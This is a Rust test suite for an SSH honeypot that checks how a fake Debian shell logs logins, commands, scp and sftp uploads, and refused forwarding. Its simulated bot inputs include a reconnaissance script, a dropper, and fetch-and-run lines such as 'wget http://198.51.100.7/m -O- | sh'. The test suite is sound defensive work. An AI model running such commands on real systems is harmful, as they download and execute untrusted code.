//! SSH with the real OpenSSH client (sshpass for passwords): logins, exec, an interactive bot
//! script, scp uploads, refused forwarding, and what each leaves in the events.

use std::process::{Command, Output};
use std::time::Duration;

use apiary_event::{AuthMethod, Event, Kind};
use apiary_pot::{Limits, ServiceConfig};

use crate::support::{TestPot, service, start};

/// Whether the clients exist; absent clients skip the test unless CI requires them.
#[allow(clippy::print_stdout)]
pub(crate) fn have(tools: &[&str]) -> bool {
    let missing: Vec<&&str> = tools
        .iter()
        .filter(|t| {
            !Command::new("sh")
                .args(["-c", &format!("command -v {t}")])
                .output()
                .is_ok_and(|o| o.status.success())
        })
        .collect();
    if missing.is_empty() {
        return true;
    }
    assert!(
        std::env::var("APIARY_REQUIRE_SERVICES").as_deref() != Ok("1"),
        "missing clients {missing:?}"
    );
    println!("skipping: {missing:?} not installed");
    false
}

pub(crate) async fn run(args: Vec<String>, stdin: Option<&'static str>) -> Output {
    tokio::task::spawn_blocking(move || {
        let mut cmd = Command::new("timeout");
        cmd.arg("60").args(&args);
        cmd.stdin(std::process::Stdio::piped())
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::piped());
        let mut child = cmd.spawn().unwrap();
        {
            use std::io::Write as _;
            let mut i = child.stdin.take().unwrap();
            if let Some(s) = stdin {
                for line in s.lines() {
                    i.write_all(line.as_bytes()).unwrap();
                    i.write_all(b"\n").unwrap();
                    std::thread::sleep(Duration::from_millis(150));
                }
            }
        }
        child.wait_with_output().unwrap()
    })
    .await
    .unwrap()
}

fn ssh_service(dir: &std::path::Path, accept: &str) -> ServiceConfig {
    let mut s = service("SSH", "ssh", &["tcp:0"]);
    let opts = format!(
        r#"
        host_key_dir = "{0}/keys"
        host_keys = ["ed25519", "ecdsa"]
        accept = "{accept}"
        credentials = ["root:hunter2"]
        ttylog_dir = "{0}/tty"
        auth_delay = "10ms"
        [shell]
        hostname = "db-03"
        distro = "debian12"
        "#,
        dir.display()
    );
    s.options = toml::from_str(&opts).unwrap();
    s
}

pub(crate) fn ssh_args(port: u16, password: &str, extra: &[&str]) -> Vec<String> {
    let mut v: Vec<String> = ["sshpass", "-p", password, "ssh", "-p", &port.to_string()]
        .iter()
        .map(|s| s.to_string())
        .collect();
    for o in [
        "StrictHostKeyChecking=no",
        "UserKnownHostsFile=/dev/null",
        "PubkeyAuthentication=no",
        "PreferredAuthentications=password",
        "LogLevel=ERROR",
        "ConnectTimeout=20",
    ] {
        v.push("-o".into());
        v.push(o.into());
    }
    v.extend(extra.iter().map(|s| s.to_string()));
    v
}

fn of<'a>(events: &'a [Event], kind: &str) -> Vec<&'a Event> {
    events.iter().filter(|e| e.kind.as_str() == kind).collect()
}

async fn pot(dir: &std::path::Path, accept: &str) -> (TestPot, u16) {
    let pot = start(&[ssh_service(dir, accept)], Limits::default(), "127.0.0.1");
    let port = pot.handle.addr("SSH", apiary_event::Transport::Tcp).unwrap().port();
    (pot, port)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn password_logins_exec_and_fingerprint() {
    if !have(&["ssh", "sshpass"]) {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let (pot, port) = pot(dir.path(), "list").await;
    let bad = run(ssh_args(port, "wrong", &["root@127.0.0.1", "id"]), None).await;
    assert_eq!(bad.status.code(), Some(5), "{bad:?}");
    let ok = run(
        ssh_args(port, "hunter2", &["root@127.0.0.1", "uname -a; cat /proc/cpuinfo | grep name | wc -l; wget http://198.51.100.7/x.sh; /bin/busybox ECCHI"]),
        None,
    )
    .await;
    let out = String::from_utf8_lossy(&ok.stdout);
    let err = String::from_utf8_lossy(&ok.stderr);
    assert!(out.starts_with("Linux db-03 6.1.0-"), "{out} {err}");
    assert!(err.contains("ECCHI: applet not found"), "{err}");
    pot.wait_for(&Kind::DOWNLOAD_ATTEMPT, 1).await;
    let events = pot.finish().await;
    let auth = of(&events, "auth.attempt");
    let creds: Vec<(Option<&str>, bool)> = auth
        .iter()
        .map(|e| {
            let a = e.auth.as_ref().unwrap();
            assert_eq!(a.method, AuthMethod::Password);
            (a.password.as_deref(), a.success)
        })
        .collect();
    assert!(creds.contains(&(Some("wrong"), false)), "{creds:?}");
    assert!(creds.contains(&(Some("hunter2"), true)), "{creds:?}");
    let client = of(&events, "ssh.client");
    assert_eq!(client.len(), 2);
    assert!(client[0].fields["version"].as_str().unwrap().starts_with("SSH-2.0-OpenSSH"));
    assert_eq!(client[0].fields["hassh"].as_str().unwrap().len(), 32);
    let cmd = of(&events, "command.input");
    assert!(cmd[0].command.as_ref().unwrap().input.starts_with("uname -a;"));
    assert_eq!(
        of(&events, "download.attempt")[0].download.as_ref().unwrap().url,
        "http://198.51.100.7/x.sh"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn interactive_bot_script_with_tty_log() {
    if !have(&["ssh", "sshpass"]) {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let (pot, port) = pot(dir.path(), "any").await;
    let script = "uname -a\ncd /tmp || cd /var/run\necho -e '\\x41\\x42' > .a; chmod 777 .a\ncat /proc/cpuinfo | grep name | head -n 1 | awk '{print $4,$5,$6,$7,$8,$9;}'\nfree -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'\nls -lh $(which ls)\nw\ncrontab -l\nexit\n";
    let o = run(ssh_args(port, "whatever", &["-tt", "admin@127.0.0.1"]), Some(script)).await;
    let out = String::from_utf8_lossy(&o.stdout);
    assert!(out.contains("admin@db-03:~$ "), "{out}");
    assert!(out.contains("admin@db-03:/tmp$ "), "{out}");
    assert!(out.contains("USER     TTY      FROM"), "{out}");
    assert!(out.contains("no crontab for admin"), "{out}");
    pot.wait_for(&Kind::new("ssh.ttylog"), 1).await;
    let events = pot.finish().await;
    let inputs: Vec<String> = of(&events, "command.input")
        .iter()
        .map(|e| e.command.as_ref().unwrap().input.clone())
        .collect();
    assert_eq!(inputs.len(), 9, "{inputs:?}");
    let up = of(&events, "file.upload");
    assert_eq!(up[0].download.as_ref().unwrap().url, "/tmp/.a");
    assert_eq!(&up[0].payload.as_ref().unwrap().data[..], b"AB\n");
    let tty = of(&events, "ssh.ttylog");
    let path = tty[0].fields["path"].as_str().unwrap().to_owned();
    // The cast is written off the runtime: wait for it.
    let mut text = String::new();
    for _ in 0..100 {
        text = std::fs::read_to_string(&path).unwrap_or_default();
        if !text.is_empty() {
            break;
        }
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    let mut lines = text.lines();
    let header: serde_json::Value = serde_json::from_str(lines.next().unwrap()).unwrap();
    assert_eq!(header["version"], 2);
    assert!(text.contains(r#""i","u""#) || text.contains(r#""i","uname"#), "keystrokes recorded");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn scp_upload_and_refused_forwarding() {
    if !have(&["ssh", "scp", "sshpass"]) {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let (pot, port) = pot(dir.path(), "any").await;
    let file = dir.path().join("bot.sh");
    std::fs::write(&file, b"#!/bin/sh\nwget http://198.51.100.7/m -O- | sh\n").unwrap();
    let mut args = ssh_args(port, "x", &[]);
    args[3] = "scp".into();
    args[4] = "-P".into();
    args.insert(4, "-O".into());
    args.push(file.display().to_string());
    args.push("root@127.0.0.1:/tmp/".into());
    let o = run(args, None).await;
    assert!(o.status.success(), "{o:?}");
    let fwd = run(ssh_args(port, "x", &["-W", "10.1.2.3:3306", "root@127.0.0.1"]), None).await;
    assert!(!fwd.status.success());
    pot.wait_for(&Kind::new("ssh.direct_tcpip"), 1).await;
    let events = pot.finish().await;
    let up = of(&events, "file.upload");
    let d = up[0].download.as_ref().unwrap();
    assert_eq!(d.url, "bot.sh");
    assert_eq!(d.size, Some(46));
    assert_eq!(
        d.sha256.as_deref(),
        Some(apiary_event::Payload::new(&std::fs::read(&file).unwrap(), 0).sha256_hex().as_str())
    );
    let f = of(&events, "ssh.direct_tcpip");
    assert_eq!(f[0].fields["dst_host"], "10.1.2.3");
    assert_eq!(f[0].fields["dst_port"], 3306);
}

/// `ssh_args` for `scp` or `sftp`, which take the port as `-P`.
fn sftp_args(port: u16, tool: &str, extra: &[&str]) -> Vec<String> {
    let mut args = ssh_args(port, "x", &[]);
    args[3] = tool.into();
    args[4] = "-P".into();
    args.extend(extra.iter().map(|s| s.to_string()));
    args
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn sftp_scp_default_mode_and_batch() {
    if !have(&["ssh", "scp", "sftp", "sshpass"]) {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let (pot, port) = pot(dir.path(), "any").await;
    let file = dir.path().join("kinsing.sh");
    let body: Vec<u8> = (0..25_000u32).flat_map(|i| i.to_le_bytes()).collect();
    std::fs::write(&file, &body).unwrap();
    let sha = apiary_event::Payload::new(&body, 0).sha256_hex();
    // OpenSSH 9's scp without -O speaks SFTP.
    let target = "root@127.0.0.1:/tmp/";
    let o = run(sftp_args(port, "scp", &[&file.display().to_string(), target]), None).await;
    assert!(o.status.success(), "{o:?}");
    // A batch: upload, list, fetch back, fetch a file of the fake machine, make a directory.
    let got = dir.path().join("back.bin");
    let host = dir.path().join("hostname");
    let batch = dir.path().join("batch");
    std::fs::write(
        &batch,
        format!(
            "pwd\ncd /tmp\nput {} x.bin\nls -l\nget x.bin {}\nget /etc/hostname {}\nmkdir .cache\nrename x.bin .cache/y\nls -a .cache\nrm .cache/y\n",
            file.display(),
            got.display(),
            host.display()
        ),
    )
    .unwrap();
    let b = batch.display().to_string();
    let o = run(sftp_args(port, "sftp", &["-o", "BatchMode=no", "-b", &b, "root@127.0.0.1"]), None)
        .await;
    let out = String::from_utf8_lossy(&o.stdout).into_owned();
    assert!(o.status.success(), "{o:?}");
    assert!(out.contains("Remote working directory: /root"), "{out}");
    let ls = out.lines().find(|l| l.starts_with('-') && l.ends_with(" x.bin")).unwrap_or_default();
    assert!(
        ls.starts_with("-rw-r--r--") && ls.contains(" root ") && ls.contains(" 100000 "),
        "{out}"
    );
    // Each connection starts from the machine's tree: the earlier scp upload is not there.
    assert!(!out.lines().any(|l| l.starts_with('-') && l.ends_with("kinsing.sh")), "{out}");
    assert!(out.lines().any(|l| l.trim_end().ends_with(".cache/y")), "{out}");
    assert_eq!(std::fs::read_to_string(&host).unwrap().trim(), "db-03");
    // The fake filesystem keeps what fits its budget (512 KiB): the whole file here.
    assert_eq!(std::fs::read(&got).unwrap(), body);

    pot.wait_for(&Kind::FILE_UPLOAD, 2).await;
    let events = pot.finish().await;
    let ups = of(&events, "file.upload");
    assert_eq!(ups.len(), 2, "{ups:?}");
    for (u, path) in ups.iter().zip(["/tmp/kinsing.sh", "/tmp/x.bin"]) {
        assert_eq!(u.message.as_deref(), Some("sftp"));
        let d = u.download.as_ref().unwrap();
        assert_eq!(d.url, path);
        assert_eq!(d.size, Some(100_000));
        assert_eq!(d.sha256.as_deref(), Some(sha.as_str()));
        assert_eq!(u.payload.as_ref().unwrap().len, 100_000);
    }
    let ops = of(&events, "ssh.sftp");
    let has = |op: &str, path: &str, result: &str| {
        ops.iter().any(|e| {
            e.fields["op"] == op && e.fields["path"] == path && e.fields["result"] == result
        })
    };
    assert!(has("open", "/tmp/x.bin", "ok"));
    assert!(has("close", "/tmp/x.bin", "ok"));
    assert!(has("opendir", "/tmp", "ok"));
    assert!(has("open", "/etc/hostname", "ok"));
    assert!(has("mkdir", "/tmp/.cache", "ok"));
    assert!(has("rename", "/tmp/x.bin", "ok"));
    assert!(has("remove", "/tmp/.cache/y", "ok"));
    let close =
        ops.iter().find(|e| e.fields["op"] == "close" && e.fields["path"] == "/tmp/x.bin").unwrap();
    assert_eq!(close.fields["bytes"], 100_000);
    assert!(of(&events, "ssh.subsystem").iter().all(|e| e.message.as_deref() == Some("sftp")));
}
